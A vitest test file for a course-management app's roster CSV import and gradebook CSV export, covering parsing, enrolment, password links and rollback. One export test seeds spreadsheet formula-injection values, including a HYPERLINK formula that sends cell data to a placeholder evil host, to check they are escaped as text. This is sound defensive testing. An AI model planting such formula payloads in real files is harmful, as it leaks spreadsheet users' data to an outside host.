import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { createTestDb, type TestDb } from "@/tests/helpers/db";
import { commitRoster, parseRosterCsv, previewRoster } from "@/app/_lib/staff/roster";
import { checkPasswordToken, redeemPasswordToken } from "@/app/_lib/auth/passwordTokens";
import { CSV_BOM, gradebookCsv } from "@/app/_lib/staff/exportCsv";
import { loadGradebook } from "@/app/_lib/staff/gradebook";
import { InputError } from "@/app/_lib/errors";
import { listAudit } from "@/app/_lib/staff/audit";
import { createStaffFixture, type StaffFixture } from "./fixture";

let t: TestDb;
let f: StaffFixture;
beforeAll(async () => {
  t = await createTestDb();
  f = await createStaffFixture(t.db);
});
afterAll(() => t.cleanup());

const ROSTER =
  "\uFEFFEmail,Name,Student ID,Role\r\n" +
  "li.lei@example.edu,李雷,2026101,student\r\n" +
  '"han.meimei@example.edu","Han, Meimei ""Mei""",2026102,Student\r\n' +
  "not-an-email,Bad Row,2026103,student\r\n" +
  "li.lei@example.edu,李雷 again,2026101,student\r\n" +
  "tutor@example.edu,Tutor,,teacher\r\n" +
  "s1@example.edu,王小明,2026001,student\r\n" +
  "inst-b@example.edu,Instructor B,,ta\r\n" +
  "\r\n";

describe("roster import", () => {
  test("parses BOM, quotes, commas and Chinese names", () => {
    const rows = parseRosterCsv(ROSTER);
    expect(rows[0]).toEqual({
      line: 2,
      email: "li.lei@example.edu",
      name: "李雷",
      studentId: "2026101",
      role: "student",
    });
    expect(rows[1].name).toBe('Han, Meimei "Mei"');
    expect(rows[1].role).toBe("student");
    expect(rows).toHaveLength(7);
  });

  test("rejects a file without a header naming the columns", () => {
    expect(() => parseRosterCsv("a@b.cd,Name\n")).toThrow(InputError);
    expect(() => parseRosterCsv("")).toThrow(InputError);
    expect(() => parseRosterCsv('email,name\n"unterminated,x\n')).toThrow(InputError);
  });

  test("preview reports bad emails, duplicates, unknown roles and members without writing", async () => {
    const ia = await f.actor(f.a.instructor, f.a.courseId);
    const users = await t.db.user.count();
    const p = await previewRoster(t.db, ia, ROSTER);
    expect(p.rows.map((r) => [r.line, r.action, r.problems])).toEqual([
      [2, "add", []],
      [3, "add", []],
      [4, "skip", ["badEmail"]],
      [5, "skip", ["duplicate"]],
      [6, "skip", ["unknownRole"]],
      [7, "skip", ["alreadyEnrolled"]],
      [8, "add", []],
    ]);
    expect(p.counts).toEqual({ add: 3, skip: 4 });
    expect(await t.db.user.count()).toBe(users);
  });

  test("preview does not reveal whether an e-mail has an account in another course", async () => {
    const ia = await f.actor(f.a.instructor, f.a.courseId);
    const other = "inst-b@example.edu"; // instructor of course B only
    const fresh = "nobody-yet@example.edu"; // no account anywhere
    expect(await t.db.user.count({ where: { email: other } })).toBe(1);
    expect(await t.db.user.count({ where: { email: fresh } })).toBe(0);
    const row = (email: string) => `email,name,student id,role\n${email},Same Name,,ta\n`;
    const withAccount = await previewRoster(t.db, ia, row(other));
    const withoutAccount = await previewRoster(t.db, ia, row(fresh));
    expect(withAccount.rows[0].action).toBe("add");
    expect(JSON.stringify(withAccount).replaceAll(other, "EMAIL")).toBe(
      JSON.stringify(withoutAccount).replaceAll(fresh, "EMAIL"),
    );
  });

  test("commit enrols the good rows in one go, with one-time password links", async () => {
    const ia = await f.actor(f.a.instructor, f.a.courseId);
    const r = await commitRoster(t.db, ia, ROSTER);
    expect(r.links.map((l) => l.email)).toEqual(["li.lei@example.edu", "han.meimei@example.edu"]);
    const enrolled = await t.db.enrollment.findMany({ where: { courseId: f.a.courseId }, include: { user: true } });
    expect(enrolled.find((e) => e.user.email === "inst-b@example.edu")?.role).toBe("ta");
    expect(enrolled.find((e) => e.user.email === "li.lei@example.edu")?.user.name).toBe("李雷");
    expect(enrolled.some((e) => e.user.email === "not-an-email")).toBe(false);
    expect((await listAudit(t.db, ia, { action: "roster.import" })).total).toBe(1);
    // second commit of the same file: everyone is already enrolled, nothing new
    const again = await commitRoster(t.db, ia, ROSTER);
    expect(again.links).toEqual([]);

    // the link works once
    const token = decodeURIComponent(r.links[0].path.split("token=")[1]);
    expect((await checkPasswordToken(t.db, token)).ok).toBe(true);
    expect(await redeemPasswordToken(t.db, token, "short")).toEqual({ ok: false, problem: "weak" });
    expect((await redeemPasswordToken(t.db, token, "a long enough password")).ok).toBe(true);
    expect(await redeemPasswordToken(t.db, token, "a long enough password")).toEqual({ ok: false, problem: "used" });
    expect(await redeemPasswordToken(t.db, "nonsense", "a long enough password")).toEqual({
      ok: false,
      problem: "invalid",
    });
    const u = await t.db.user.findUniqueOrThrow({ where: { email: "li.lei@example.edu" } });
    expect(u.passwordHash).toMatch(/^\$argon2id\$/);
  });

  test("a failure inside the commit leaves nothing half-imported", async () => {
    const before = await t.db.user.count();
    // The second insert fails inside the transaction (a trigger stands in for a disk or constraint error).
    const ib = await f.actor(f.b.instructor, f.b.courseId);
    const text = "email,name,role\nfresh1@example.edu,Fresh One,student\nfresh2@example.edu,Fresh Two,student\n";
    const trigger = FAIL_SECOND_TRIGGER[t.provider];
    for (const sql of trigger.create) await t.db.$executeRawUnsafe(sql);
    await expect(commitRoster(t.db, ib, text)).rejects.toThrow();
    for (const sql of trigger.drop) await t.db.$executeRawUnsafe(sql);
    expect(await t.db.user.count()).toBe(before);
    expect(await t.db.user.findUnique({ where: { email: "fresh1@example.edu" } })).toBeNull();
  });
});

/** A trigger that fails the insert of fresh2@example.edu, in each database's dialect. */
const FAIL_SECOND_TRIGGER = {
  sqlite: {
    create: [
      `CREATE TRIGGER fail_second AFTER INSERT ON "User" WHEN NEW.email = 'fresh2@example.edu' BEGIN SELECT RAISE(ABORT, 'disk full'); END`,
    ],
    drop: [`DROP TRIGGER fail_second`],
  },
  postgresql: {
    create: [
      `CREATE FUNCTION fail_second() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'disk full'; END $$`,
      `CREATE TRIGGER fail_second AFTER INSERT ON "User" FOR EACH ROW WHEN (NEW.email = 'fresh2@example.edu') EXECUTE FUNCTION fail_second()`,
    ],
    drop: [`DROP TRIGGER fail_second ON "User"`, `DROP FUNCTION fail_second()`],
  },
};

describe("gradebook CSV export", () => {
  test("UTF-8 with BOM; round-trips through a CSV parser to the gradebook's numbers", async () => {
    const ta = await f.actor(f.a.ta, f.a.courseId);
    const text = await gradebookCsv(t.db, ta, { assignmentId: f.a.assignmentId });
    expect(text.startsWith(CSV_BOM)).toBe(true);
    const bytes = Buffer.from(text, "utf8");
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records: string[][] = parse(bytes, { bom: true });
    const [header, ...rows] = records;
    expect(header).toEqual([
      "student_id",
      "name",
      "email",
      "ex-one (10)",
      "ex-two (10)",
      "total (20)",
      "missing",
      "late_days",
      "overridden",
    ]);
    const book = await loadGradebook(t.db, ta, { assignmentId: f.a.assignmentId, pageSize: 0 });
    expect(rows).toHaveLength(book.rows.length);
    for (const r of book.rows) {
      const rec = rows.find((x) => x[2] === r.user.email)!;
      expect(rec[1]).toBe(r.user.name);
      expect(rec.slice(3, 5).map((x) => (x === "" ? null : Number(x)))).toEqual(r.cells.map((c) => c.score));
      expect(Number(rec[5])).toBeCloseTo(r.total, 2);
      expect(Number(rec[6])).toBe(r.missing);
      expect(Number(rec[7])).toBe(r.lateDays);
    }
    expect(rows.map((x) => x[1])).toContain("Smith, Jane");
    expect(rows.map((x) => x[1])).toContain("王小明");
  });

  test("names, ids and e-mails that a spreadsheet would run as formulas are written as text", async () => {
    const hostile = [
      { email: "eq@example.edu", name: '=HYPERLINK("http://evil.example/?d="&A1,"click")', studentId: "+1+1" },
      { email: "at@example.edu", name: "@SUM(1,2)", studentId: "-2+3" },
      { email: "tab@example.edu", name: "\t=1+1", studentId: "\r=1" },
    ];
    for (const h of hostile) {
      const u = await t.db.user.create({ data: h });
      await t.db.enrollment.create({ data: { courseId: f.a.courseId, userId: u.id, role: "student" } });
    }
    const ta = await f.actor(f.a.ta, f.a.courseId);
    const rows: string[][] = parse(
      Buffer.from(await gradebookCsv(t.db, ta, { assignmentId: f.a.assignmentId }), "utf8"),
      {
        bom: true,
      },
    );
    for (const h of hostile) {
      const rec = rows.find((r) => r[2] === h.email)!;
      expect(rec[1]).toBe(`'${h.name}`);
      expect(rec[0]).toBe(`'${h.studentId}`);
    }
    // Ordinary cells, and scores, are untouched.
    expect(rows.map((x) => x[1])).toContain("Smith, Jane");
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});
